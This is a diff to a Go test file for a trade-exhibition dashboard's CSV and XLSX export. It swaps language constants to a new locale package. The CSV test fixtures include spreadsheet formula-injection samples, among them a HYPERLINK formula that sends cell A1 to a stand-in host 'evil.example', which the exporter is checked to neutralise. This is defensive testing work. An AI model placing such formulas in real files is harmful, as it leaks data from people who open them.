@@ -13,6 +13,7 @@ import (
 	"testing"
 
 	"tradedash"
+	"tradedash/locale"
 	"tradedash/queries"
 	"tradedash/queries/queriestest"
 	"tradedash/view"
@@ -70,18 +71,18 @@ func TestCSV(t *testing.T) {
 	importFigures(t, db.Writer, tricky(), nil)
 	r := newReporter(db.Reader)
 	for _, c := range []struct {
-		lang view.Lang
+		lang locale.Lang
 		sep  rune
 		want []string
 	}{
-		{view.RU, 0, []string{"Год;Выставка;Страна;Показатель;Значение;Точность;Статус;Источник;Примечание;Импорт\r\n",
+		{locale.RU, 0, []string{"Год;Выставка;Страна;Показатель;Значение;Точность;Статус;Источник;Примечание;Импорт\r\n",
 			"2023;ИННОПРОМ;Китай;Площадь, м²;1,2340;;факт;", ";'+7 495 000-00-00;", "2024;ИННОПРОМ;Китай;Площадь, м²;3800,5;около;прогноз;",
 			`;"'=HYPERLINK(""http://evil.example/?""&A1,""click"")";`, ";''=typed with two apostrophes;", ";'an apostrophe of the user's;",
 			"Все страны", "Российско-Китайское ЭКСПО"}},
-		{view.EN, 0, []string{"Year,Exhibition,Country,Metric,Value,Qualifier,Status,Source,Note,Import\r\n",
+		{locale.EN, 0, []string{"Year,Exhibition,Country,Metric,Value,Qualifier,Status,Source,Note,Import\r\n",
 			`2023,INNOPROM,China,"Area, m²",1.2340,,actual,`, ",'@SUM(A1:A9),", ",at most,planned,", "All countries"}},
-		{view.RU, ',', []string{"Год,Выставка", `"Площадь, м²",1.2340,`}},
-		{view.EN, ';', []string{"Year;Exhibition", ";Area, m²;1,2340;"}},
+		{locale.RU, ',', []string{"Год,Выставка", `"Площадь, м²",1.2340,`}},
+		{locale.EN, ';', []string{"Year;Exhibition", ";Area, m²;1,2340;"}},
 	} {
 		rep := rep(t, r, Request{Page: PageData, Lang: c.lang})
 		var buf bytes.Buffer
@@ -122,7 +123,7 @@ func TestRoundTrip(t *testing.T) {
 	importFigures(t, db.Writer, tricky(), nil)
 	r := newReporter(db.Reader)
 	dir := t.TempDir()
-	for _, lang := range []view.Lang{view.RU, view.EN} {
+	for _, lang := range []locale.Lang{locale.RU, locale.EN} {
 		req := Request{Page: PageData, Lang: lang}
 		path, _ := writeXLSX(t, r, req, Options{}, dir)
 		files := []string{path}
@@ -186,7 +187,7 @@ func TestOnlyWebLinks(t *testing.T) {
 			Value: 1, Qualifier: tradedash.Exact, Status: tradedash.Actual, Source: s})
 	}
 	importFigures(t, db.Writer, figs, nil)
-	path, _ := writeXLSX(t, newReporter(db.Reader), Request{Page: PageData, Lang: view.EN}, Options{}, t.TempDir())
+	path, _ := writeXLSX(t, newReporter(db.Reader), Request{Page: PageData, Lang: locale.EN}, Options{}, t.TempDir())
 	f := openXLSX(t, path)
 	links := 0
 	for i, row := range rowsOf(t, f, "Sources")[3:] {
@@ -259,8 +260,8 @@ func TestLimits(t *testing.T) {
 	if _, err := rep.WriteCSV(context.Background(), &buf, 0, Options{MaxRows: 50}); err == nil {
 		t.Fatal("csv past the limit")
 	}
-	if !strings.Contains(le.Message(view.RU), "больше 50 цифр") || !strings.Contains(le.Message(view.EN), "more than 50 figures") {
-		t.Errorf("messages: %q / %q", le.Message(view.RU), le.Message(view.EN))
+	if !strings.Contains(le.Message(locale.RU), "больше 50 цифр") || !strings.Contains(le.Message(locale.EN), "more than 50 figures") {
+		t.Errorf("messages: %q / %q", le.Message(locale.RU), le.Message(locale.EN))
 	}
 	l := NewLimiter(2, 10)
 	r1, err1 := l.Acquire()
@@ -270,7 +271,7 @@ func TestLimits(t *testing.T) {
 		t.Fatal(err1, err2)
 	}
 	busy, ok := err3.(*LimitError)
-	if !ok || busy.Kind != LimitBusy || !strings.Contains(busy.Message(view.RU), "Повторите") {
+	if !ok || busy.Kind != LimitBusy || !strings.Contains(busy.Message(locale.RU), "Повторите") {
 		t.Fatalf("a third export at once: %v", err3)
 	}
 	r1()
